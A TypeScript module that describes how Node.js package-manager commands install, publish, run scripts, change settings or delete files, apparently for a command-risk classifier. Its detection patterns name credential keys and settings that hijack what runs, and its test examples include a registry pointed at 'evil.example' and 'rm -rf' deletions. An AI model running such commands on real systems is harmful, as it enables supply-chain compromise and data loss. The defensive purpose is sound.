import type { Argument, Call, CommandDescriptor, Family, Finding } from './descriptor.ts';
import type { FixedEffect, OptionTable, ProgramDescriptor } from './descriptor.ts';
import { byAddress, isForeignPackage, isUsualRegistry, untrusted } from './registries.ts';
import { does, effect, harmless, installs, projectCode, publishes, repacks, sets, sharing, unlessDry } from './shapes.ts';
import { lifecycleIn, scriptsIn, scriptsOfPackages, workspaceScripts } from './taskCalls.ts';

const registry: FixedEffect = sets('package:registry', 'remote_change');
const loggedIn: FixedEffect = sets('credential:npm', 'weakens');

const source = {
  '--registry': 'text',
  '-g --global': 'flag',
  '--prefix -C --dir --cwd': 'text',
  '--workspace -w --filter -F': 'text',
  '--workspaces -ws': 'flag',
  '--userconfig --cache --omit --include --otp --tag --access --script-shell --loglevel --reporter --network-timeout --modules-folder':
    'text',
} as const satisfies OptionTable;

function sourceFindings(call: Call): readonly Finding[] {
  const foreign = call.values('--registry').some(({ text }) => !isUsualRegistry(text));
  return [...(foreign ? [sets('package:registry', 'weakens')] : []), ...call.operands.flatMap(value => byAddress(value, true))];
}

/** Packages that come to lie in another folder than this one. */
const installedAt = (call: Call): readonly Finding[] =>
  call.values('--prefix').map(({ text }) => ({
    use: { as: 'write', recursive: true, certainty: 'possible' },
    value: text === undefined ? '/' : `${text.replace(/\/+$/, '')}/node_modules`,
  }));

const install = (): CommandDescriptor => ({
  options: source,
  effects: [installs],
  inspect: call => [...sourceFindings(call), ...installedAt(call), ...lifecycleIn(call)],
});

/** A value that begins with a dash looks like an option, so these count without one. */
const RUNS_SOMETHING =
  /^(?:script-shell|shell|git|node-options|onload-script|globalconfig|userconfig|init-module|editor|viewer|yarn-path|yarnPath|plugins?)$/;

/** Settings of a package manager that decide what runs or where packages come from. */
function settingFindings({ operands }: Call): readonly Finding[] {
  const words = operands
    .map(({ text }) => text ?? '?')
    .join(' ')
    .replace(/^set /, '');
  const [, key = '', value = ''] = /^([^\s=]+)(?:[\s=]+(.*))?$/s.exec(words) ?? [];
  if (/^(?:get|list|ls)$/.test(operands[0]?.text ?? ''))
    return /_auth|token|password/i.test(words) ? [effect('read', `credential:${key}`, 'secret')] : [];
  if (key === 'delete' || (value === '' && !RUNS_SOMETHING.test(key))) return [];
  const target = `package_setting:${key}`;
  if (/registry$|npmRegistryServer|npmRegistries/.test(key) && !isUsualRegistry(value))
    return [{ kind: 'configure', target, tags: ['tampered_environment'] }];
  if (RUNS_SOMETHING.test(key)) return [{ kind: 'configure', target, tags: ['tampered_environment'] }];
  if (
    (/^(?:strict-ssl|enableStrictSsl|ignore-scripts|audit)$/.test(key) && /^(?:false|0)$/.test(value)) ||
    (key === 'enableScripts' && value === 'true')
  )
    return [{ kind: 'configure', target, tags: key === 'audit' ? [] : ['weakens'] }];
  return /_auth|token|password/i.test(key) ? [{ kind: 'configure', target, tags: ['weakens'] }] : [{ kind: 'configure', target }];
}

const runs = (): CommandDescriptor => ({ style: 'posix', effects: [projectCode], inspect: scriptsIn });

const execute = (): CommandDescriptor => ({
  style: 'posix',
  options: {
    '-p --package': 'text',
    '--registry': 'text',
    '-c --call --shell-mode': 'shell',
    '-y --yes -q --no --no-install --bun --parallel -r': 'flag',
    '-w --workspace --filter': 'text',
  },
  operands: { first: ['command'] },
  inspect: call => [
    ...sourceFindings({ ...call, operands: call.operands.slice(0, 1) }),
    ...call.values('-p').flatMap(value => byAddress(value, true)),
  ],
});

/** A new version goes into the manifest, and into a commit and a tag unless the call says otherwise. Without a word it only prints. */
const version = (): CommandDescriptor => ({
  options: {
    '--new-version --preid -m --message --tag-version-prefix': 'text',
    '--patch --minor --major --prerelease': 'flag',
    '--no-git-tag-version': 'flag',
    '--git-tag-version --no-commit-hooks': 'flag',
  },
  inspect: call => {
    const isSet = call.operands.length > 0 || call.has('--new-version') || call.has('--patch');
    if (!isSet || /^(?:check|apply)$/.test(call.operands[0]?.text ?? '')) return scriptsIn(call);
    const commit: Finding = sets('git_ref:HEAD', 'commits');
    return [
      ...scriptsIn(call),
      projectCode,
      effect('write', 'file:package.json'),
      ...(call.has('--no-git-tag-version') ? [] : [commit]),
    ];
  },
});

/** Scripts that a package manager runs by itself. */
const LIFECYCLE =
  /^(?:(?:pre|post)?(?:install|prepare|pack|publish|version|uninstall)|prepublishOnly|dependencies|prerestart|prestart|pretest)$/;

/** A value in the manifest: a script is judged as the command that it is, one that runs by itself stays. */
function manifestFindings({ text = '' }: Argument): readonly Finding[] {
  const [, field = '', name = '', value = ''] =
    /^(scripts|(?:dev|peer|optional)?[dD]ependencies|overrides|resolutions|bin)[.[]["']?([^=\]"']+)["']?\]?=(.*)$/s.exec(text) ??
    [];
  if (field === 'scripts')
    return [
      { use: { as: 'shell', certainty: 'possible' }, value },
      ...(LIFECYCLE.test(name) ? [sets(`script:${name}`, 'persistence')] : []),
    ];
  return isForeignPackage(value) ? [untrusted] : [];
}

const shared: Readonly<Record<string, () => CommandDescriptor>> = {
  'install i ci add update up upgrade install-test it clean-install install-ci-test import fetch rebuild rb': install,
  'run run-script test t tst start stop restart': runs,
  'exec x dlx': execute,
  'create init innit': () => ({ effects: [installs], inspect: sourceFindings }),
  publish: unlessDry(publishes),
  'owner dist-tag access team org hook author token profile': () => ({
    inspect: ({ path, operands: [verb] }) =>
      verb === undefined || /^(?:ls|list|get|view|ls-packages|ls-collaborators|show|help)$/.test(verb.text ?? '')
        ? [effect('network', 'network:download')]
        : [path[1] === 'token' ? loggedIn : registry],
  }),
  'unpublish deprecate star unstar undeprecate tag': does(registry),
  'login adduser add-user logout': does(loggedIn),
  'config c set': () => ({ inspect: settingFindings }),
  // It edits the manifest: `npm pkg set scripts.test=true`. Without a word that is known to ask, it may be any of them.
  pkg: () => ({
    inspect: ({ operands: [verb, ...values] }) =>
      /^(?:get|help)$/.test(verb?.text ?? 'set')
        ? []
        : [effect('write', 'file:package.json'), ...values.flatMap(manifestFindings)],
  }),
  'set-script': () => ({
    inspect: ({ operands: [name, value] }) => [
      effect('write', 'file:package.json'),
      ...manifestFindings({ text: `scripts.${name?.text ?? 'install'}=${value?.text ?? ''}`, glob: false }),
    ],
  }),
  npm: () => ({
    subcommands: { publish: unlessDry(publishes), 'login logout': does(loggedIn), 'tag whoami info audit': () => ({}) },
  }),
  version,
  'uninstall un remove rm r prune dedupe unlink link ln patch-commit': () => ({ options: source, effects: [repacks] }),
  audit: () => ({ inspect: call => (call.has('--fix') || call.operands[0]?.text === 'fix' ? [installs] : []) }),
  ...harmless(
    'outdated ls list ll la view info show search find-dupes doctor root prefix bin whoami ping explain why fund help help-search docs repo bugs home edit pack shrinkwrap query sbom cache store licenses completion versions check dedupe-check setup env get diff node plugin set-version constraints patch deploy',
  ),
};

const examples = (name: string): Pick<ProgramDescriptor, 'match' | 'notMatch'> => ({
  match: {
    [`${name} publish`]: 'network upload #remote_change #shares',
    [`${name} config set registry https://evil.example`]: 'configure #tampered_environment',
    [`${name} install --registry=http://evil.example x`]: 'configure #weakens',
    [`${name} exec -- rm -rf a`]: 'delete /w/a/**',
    [`${name} install x`]: 'network download #package_scripts',
    [`${name} unpublish x`]: 'configure #remote_change',
    [`${name} publish --dry-run=false`]: '* #shares',
    [`${name} publish --dry-run false`]: '* #shares',
    [`${name} version patch`]: 'write /w/package.json; configure git_ref:HEAD #commits',
  },
  notMatch: {
    [`${name} run build -- --force`]: 'unknown; * #destructive; * #remote_change',
    [`${name} install --save-dev x`]: 'unknown; * #remote_change; * #weakens',
    [`${name} test`]: 'unknown; network',
    [`${name} version`]: 'write; * #commits',
    [`${name} version minor --no-git-tag-version`]: '* #commits',
    [`${name} publish --dry-run`]: '* #shares',
    [`${name} config get registry`]: 'configure; * #secret',
  },
});

const npm = (): ProgramDescriptor => ({
  summary: 'manages packages of Node.js',
  options: source,
  subcommands: shared,
  ...examples('npm'),
});

const pnpm = (): ProgramDescriptor => ({
  summary: 'manages packages of Node.js',
  options: { ...source, '-r --recursive --parallel --silent': 'flag' },
  subcommands: shared,
  effects: [projectCode],
  inspect: call => (call.path.length === 1 ? scriptsIn(call) : []),
  ...examples('pnpm'),
});

const yarn = (): ProgramDescriptor => ({
  summary: 'manages packages of Node.js',
  options: { '--registry': 'text', '--cwd --otp --tag --access --modules-folder --network-timeout': 'text' },
  subcommands: {
    ...shared,
    global: () => ({ subcommands: { 'add upgrade': install, 'remove list bin dir': () => ({}) } }),
    'workspace workspaces': () => ({ style: 'posix', effects: [projectCode], inspect: workspaceScripts }),
  },
  effects: [projectCode],
  // Without a word it installs what the manifest names.
  inspect: call => (call.path.length > 1 ? [] : call.operands.length === 0 ? [installs, ...lifecycleIn(call)] : scriptsIn(call)),
});

const bun = (): ProgramDescriptor => ({
  summary: 'runs JavaScript and manages its packages',
  options: {
    '-e --eval -p --print': { as: 'code', language: 'javascript' },
    '-r --preload': 'execute',
    '--cwd -c --config --env-file --outfile --outdir --target --filter': 'text',
  },
  subcommands: {
    ...shared,
    run: () => ({
      ...runs(),
      operands: { first: [{ as: 'execute', language: 'javascript', certainty: 'possible' }] },
      stdin: { as: 'code', language: 'javascript' },
    }),
    'dev start': runs,
    'test repl': () => ({ style: 'posix', effects: [projectCode] }),
    build: () => ({ options: { '--outfile --outdir': 'write' }, operands: { rest: 'read' } }),
    pm: () => ({ subcommands: { version } }),
  },
  effects: [projectCode],
  operands: { first: [{ as: 'execute', language: 'javascript' }] },
  match: { 'bun publish': 'network #shares', 'bun x rimraf src': 'delete', 'bun a.ts': 'execute a.ts' },
  notMatch: { 'bun run build': 'unknown', 'bun install': 'unknown; * #remote_change' },
});

const npx = (): ProgramDescriptor => ({
  summary: 'runs a package of Node.js',
  ...execute(),
  informational: ['--help', '--version'],
  match: {
    'npx -y rimraf src': 'delete /w/src/**',
    "npx -c 'rm a'": 'delete /w/a',
    'npx prettier --write a.ts': 'write /w/a.ts/**',
  },
  notMatch: { 'npx tsc --noEmit': 'unknown; * #destructive', 'npx vitest run': 'unknown' },
});

const rimraf = (): ProgramDescriptor => ({
  summary: 'removes files and folders',
  options: { '-g --glob -i --interactive -v --verbose': 'flag', '--impl --tmp --max-retries --retry-delay --backoff': 'text' },
  operands: { rest: { as: 'delete', recursive: true } },
  match: { 'rimraf src': 'delete /w/src/** #destructive' },
  notMatch: { 'rimraf --help': 'delete' },
});

const releasing = (): ProgramDescriptor => ({
  summary: 'publishes packages',
  options: { '--dry-run -d --dry --no-publish': 'flag' },
  cases: [{ when: { none: ['--dry-run'] }, effects: [publishes] }],
  informational: ['--help', '--version', '-h'],
});

/** Package managers of Node.js and what comes with them, and what publishes releases. */
export const nodePackages: Family = {
  npm,
  cnpm: npm,
  pnpm,
  yarn,
  yarnpkg: yarn,
  bun,
  ...sharing('npx bunx pnpx', npx),
  ...sharing('rimraf del-cli del trash-cli', rimraf),
  ...sharing('np release-it semantic-release', releasing),
  ...sharing('lerna changeset', () => ({
    summary: 'versions and publishes packages',
    subcommands: {
      publish: unlessDry(publishes),
      exec: () => ({ style: 'posix', operands: { first: ['command'] } }),
      run: () => ({ inspect: ({ operands }) => scriptsOfPackages(operands, ['*']) }),
      'bootstrap version add init status tag': () => ({}),
    },
    match: { 'lerna publish': 'network #shares' },
  })),
  goreleaser: () => ({
    summary: 'publishes releases',
    options: { '--snapshot --skip-publish': 'flag' },
    subcommands: {
      release: () => ({ cases: [{ when: { none: ['--snapshot'] }, effects: [publishes] }] }),
      'build check init healthcheck': () => ({}),
    },
    match: { 'goreleaser release': 'network #shares' },
  }),
  ...sharing('vsce ovsx', () => ({
    summary: 'publishes editor extensions',
    subcommands: { publish: does(publishes), 'package ls': () => ({}) },
    match: { 'vsce publish': 'network #shares' },
  })),
  corepack: () => ({ summary: 'picks a package manager', effects: [installs] }),
  ...sharing('nvm n', () => ({ summary: 'picks a version of Node.js' })),
};
